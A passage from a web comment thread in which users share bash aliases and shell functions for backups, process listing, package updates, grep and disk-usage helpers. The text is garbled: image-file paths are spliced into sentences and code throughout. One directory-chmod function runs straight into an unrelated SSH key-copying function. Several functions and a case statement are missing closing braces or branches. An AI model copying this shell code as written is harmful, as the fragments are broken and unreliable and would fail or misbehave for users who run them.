        Is there a specific reason to use $@ instead of $1?I also added quotes around the parameters, otherwise it won’t work with file names that include whitespace, I have it like this now:

        bu() { cp “$1” “$1”.backup-`date +%y%m%d`; }

    • Dean Sep 23, 2014 @ 17:13

      Brilliant. Thanks.
      I use this before I edit any config file I might need/want to change back later.
      I also added %H%M%S so I can save a copy each time without dupe file names.
      Thanks again.
      I suppose one could also include something like this in an alias for vi to automatically create a backup file before launching vi…hmmmm….

  • Russ Thompson Apr 25, 2013 @ 2:34

    I am learning to love simple functions in .bashrc

    mcd () {
    mkdir -p $1;
    cd $1

    But the great aliases are in the cmd prompt under windoze:

    run doskey /macrofile=doskey.mac

    then set up a doskey,mac in root directory with the CORRECT commands

    ls=dir $* /o/w
    cat=type $*
    rm=del $*
    lsl=dir $* /o/p

    yes, I have to work in the sludgepit, but I can fix the command set• Andrew May 1, 2013 @ 20:44

    Since I work in a numberof different distributions, I concatenated 17 and 18:

    case $(lsb_release -i | awk ‘{ print $3 }’) in
    alias apt-get=”sudo apt-get”
    alias updatey=”sudo apt-get –yes”
    alias update=’sudo apt-get update && sudo apt-get upgrade’
    alias update=’yum update’
    alias updatey=’yum -y update’

    Of course you could add Fedora, Scientific Linux, etc, to the second one, but I don’t have either of those handy to get the output of lsb_release.

    • mirek Dec 27, 2016 @ 19:17

      lsb_release is not installed everywhere following code works better for me

      if cat /proc/version | grep -i -e ubuntu -e debian -e raspbian > /dev/null 2>&1 ; then
          alias update="sudo apt-get update && sudo apt-get upgrade";
      elif cat /proc/version | grep -i -e centos -e redhatenterpriseserver -e fedora > /dev/null 2>&1 ; then
          alias update="sudo yum update";
  • Aaron Goshine May 5, 2013 @ 3:27

    alias gtl=’git log’
    alias gts=’git status’

  • Dan May 29, 2013 @ 15:53

    I also have an function that does the same thing, and an alias forkilling a process by pid. Then in my ps2 command I use ‘complete’ to add the pids tothe completion list of my kill command so I can hit escape and it will fill in the rest. Better to show it than describe it:

    alias kk=’sudo kill’ # Expecting a pid
    pss() {
    [[ ! -n ${1} ]] && return; # bail if no argument
    pro=”[${1:0:1}]${1:1}”; # process-name –> [p]rocess-name (makes grep better)
    ps axo pid,command | grep -i ${pro}; # show matching processes
    pids=”$(ps axo pid,command | grep -i ${pro} | awk ‘{print $1}’)”; # get pids
    complete -W “${pids}” kk # make a completion list for kk

    Now I can do (for example):

    zulu:/Users/frank $ pss ssh
    3661 /usr/bin/ssh-agent -l
    2845 ssh -Nf -L 15900:localhost:5900 homemachine@dyndns.org
    zulu:/Users/frank $ kk 2 (hit escape key to complete 2845)
    zulu:/Users/frank $

  • Philip Vanmontfort Jun 1, 2013 @ 15:31

    Hey, very useful tips!
    here’s mine:

    chmoddr()   {
      # CHMOD _D_irectory _R_ecursivly
      if [ -d "$1" ]; then
       echo "error: please use the mode first, then the directory";
       return 1;
      elif [ -d "$2" ]; then
       find $2 -type d -print0 | xargs -0 chmod $1;
      if [ "$#" -lt 1 ]; then   echo "not enough arguments";    return 1;  fi
      echo "resistence is futile! $1 will be assimilated";
      if [ "$2" != "" ]; then_assimilate_opts=" -p$2 ";
      ssh -M -f -N $_assimilate_opts -o ControlPath=$SSHSOCKET $1;
      if [ ! -S $SSHSOCKET ]; then echo "connection to $1 failed! (no socket)"; return 1; fi
      ### begin assimilation
      # copy files
      scp -o ControlPath=$SSHSOCKET ~/.bashrc $1:~;
      scp -o ControlPath=$SSHSOCKET -r ~/.config/htop $1:~;
      # import ssh key
      if [[ -z $(ssh-add -L|ssh -o ControlPath=$SSHSOCKET $1 "grep -f - ~/.ssh/authorized_keys") ]]; then
        ssh -o ControlPath=$SSHSOCKET $1 "mkdir ~/.ssh > /dev/null 2>&1";
        ssh-add -L > /dev/null&&ssh-add -L|ssh -o ControlPath=$SSHSOCKET$1 "cat >> ~/.ssh/authorized_keys"
      ssh -o ControlPath=$SSHSOCKET $1 "chmod -R 700 ~/.ssh";
      ### END
      ssh -S $SSHSOCKET -O exit $1 2>1 >/dev/null;
  • harry Jun 4, 2013 @ 2:59

    Hey these are great guys. Thanks. Here are a few I started using recently ever since I discovered ‘watch’. I use for monitoring log tails and directory contents and sizes.

    alias watchtail=’watch -n .5 tail -n 20′alias watchdir=’watch -n .5 ls -la’
    alias watchsize=’watch -n .5 du -h –max-depth=1′

    • harry Jun 4, 2013 @ 3:09

      I forgot that third one: I use for monitoring small directories ( < 100M ). This would choke on large directories. Just increase the watch interval if you need to watch larger directories. The default interval for watch is 2 seconds.

    • Bob Sep 20, 2013 @ 16:36

      tail has a ‘watch’-like option, though it doesn’t refresh the screen like watch

      tail -f -n 20 (though, really, the line number isn’t as necessary in tail -f as it is in watch)

  • greg Jun 7, 2013 @ 16:19

    I have the same “ll” alias, I use constantly. Here are a few others:

    # grep all files in the current directoryfunction _grin() { grep -rn --color $1 .;}
    alias grin=_grin
    # find file by name in current directory
    function _fn() { find . -name $1;}
    alias fn=_fn
  • Philip Vanmontfort Jun 17, 2013 @ 17:50

    I published my .bashrc:


  • selfthinker Jun 29, 2013 @ 17:40

    three letters to tune into my favorite radio stations

    alias dlf=”/usr/local/bin/mplayer -nocache -audiofile-cache 64 -prefer-ipv4 $(GET http://www.dradio.de/streaming/dlf.m3u|head -1)”
    alias dlr=”/usr/local/bin/mplayer -nocache -audiofile-cache 64 -prefer-ipv4 $(GET http://www.dradio.de/streaming/dkultur.m3u|head -1)”sometimes I swap my keyboards, then I use

    alias tastatur=”setxkbmap -model cherryblue -layout de -variant ,nodeadkeys”

    When using mplayer you may set bookmarks using ‘i’. You may read it easyer using

    mplay() {
        export EDL=”$HOME/.mplayer/current.edl”
        /usr/local/bin/mplayer -really-quiet -edlout $EDL $* ;
        echo $(awk ‘{print $2 }’ $EDL | cut -d, -f1 | cut -d. -f1 )

    Buring ISO-images does not need starting GUIs and clicking around

    alias isowrite=”cdrecord dev=1,0,0 fs=32M driveropts=burnfree speed=120 gracetime=1 -v -dao -eject -pad -data

    Be aware the device must be adjusted. Not every default will fit for you to “isowrite /some/where/myimage.iso”.

  • LinuxGeek Jul 16, 2013 @ 15:28

    Really useful command

  • Erik Jul 16, 2013 @ 21:01In 30 years of living at the *nix commandline I found that I really only need 2 aliases
    for mybash shell (used to be ksh, but that’s been awhile)

      alias s=less        # use less a lot to see config files and logfiles
      alias lst='ls -ltr'   # most recently updated files last

    when checking for servers and tcp ports for a non root user these are also handy

      alias myps='ps -fHu $USER'     # if not $USER, try $LOGIN
      alias myports="netstat -lntp 2>/dev/null | grep -v ' - *$'"  # Linux only?
  • Tim Aug 10, 2013 @ 13:44

    I have an alias question. I routinely want to copy files from various locations to a standard location. I want to alias that standard location so I can type:
    alias mmm=”/standard/target/directory/”
    cp /various/file/source mmm
    but this doesn’t work: just creates a duplicate named mmm

    Is there a way to do this?

    •  nixCraft Aug 11, 2013 @ 8:15

      Add mmm to $HOME/.bashrc as follows:

      export mmm="/standard/target/directory/"

      Logout and login again. Verify that $mmm is set:

      echo $mmm

      Now run the command:

      cp /various/file/source $mmm


      • Tim Aug 12, 2013 @ 4:52Thank you very much!


  • sandeep Sep 3, 2013 @ 10:01


  • Salvatore Sep 8, 2013 @ 13:56

    Very nice and useful, thank you!

  • Morgan Estes Sep 17, 2013 @ 22:01

    I can never remember the right flags to pass when extracting a tarball, so I have this custom alias:

    alias untar='tar -zxvf'
  • Michael J Sep 27, 2013 @ 16:06

    I use this “alias” — its really a function — to do a quick check of JSON files on the command line:function json() { cat “$@” | /usr/bin/python -m json.tool ;}

    usage: json file.json

    If all is well, it will print the JSON file to the screen. If there is an error in the file, the error is printed along with the offending line number.

    Works great for quickly testing JSON files!

  • Erwan Oct 7, 2013 @ 20:21

    Nice list, this file is so great for repetitive tasks.

    Here’s mine.

  • Eric Oct 10, 2013 @ 18:29

    This is a great list most of my favorites have already been listedbut this one hasn’t quite been included and i use more than any other, except maybe ‘lt’
    Thanks to James from comment #28 it now doesn’t include the command its selfin the list!

    # grep command history.  Uses function so a bare 'gh' doesn't just hang waiting for input.
    function gh () {
      if [ -z "$1" ]; then
        echo "Bad usage. try:gh run_test";
        history | egrep $* |grep -v "gh $*"

    I also offer this modification to your #8

    alias h='history 100'     # give only recent history be default.

    other favorites of mine, all taken from elsewhere, are:

    alias wcl='wc -l'        # count # of lines
    alias perlrep='perl -i -p -e '               # use perl regex to do find/replace in place on files.  CAREFUL!!

    # list file/folder sizes sorted from largest to smallest with human readable sizes

    function dus () {
    du --max-depth=0 -k * | sort -nr | awk '{ if($1>=1024*1024) {size=$1/1024/1024; unit="G"} else if($1>=1024){size=$1/1024; unit="M"} else {size=$1; unit="K"}; if(size<10) format="%.1f%s"; else format="%.0f%s"; res=sprintf(format,size,unit); printf "%-8s %sn",res,$2 }'
    • Hiatus Feb 25, 2016 @ 0:48

      the dus function is missing a proper ending. Add ; }

    • ychaouche Dec 26, 2016 @ 10:17You want sort -h and du -h

      du -h --max-depth=1 | sort -h

      Sample output :

      368K    ./MACONF
      452K    ./.gimp-2.8
      628K    ./.pip
      1.0M    ./.gstreamer-0.10
      2.6M    ./PROG
      3.3M    ./.adobe
      1.2G    ./BACKUPS
      1.5G    ./.local5.3G    ./TMP
  • Brian Oct 26, 2013 @ 0:08

    Alias the word unalias into a 65000 character long password…

  • Brian Oct 26, 2013 @ 0:11

    Likewise alias bin.bash as $=unalias-1

  • TimC Nov 13, 2013 @ 23:37

    So you are not truly lazy until you see this in somebody’s alias file

    alias a=’alias’



  • Jim C Dec 12, 2013 @ 17:54

    It’s a bit off topic but the lack of a good command line trash can command has always seemed like a glaring omission to me.
    I usually name it tcan or tcn.

  • rne Dec 28, 2013 @ 20:08

    just use Ctrl-D

  • Mikkel Jan 1, 2014 @ 21:38

    On OS-X 10.9 replace ‘ls –color=auto’ with ‘ls -G’

  • Robert Feb 12, 2014 @ 3:40# Define a command to cd then print the resulting directory.
    # I do this to avoid putting the current directory in my prompt.
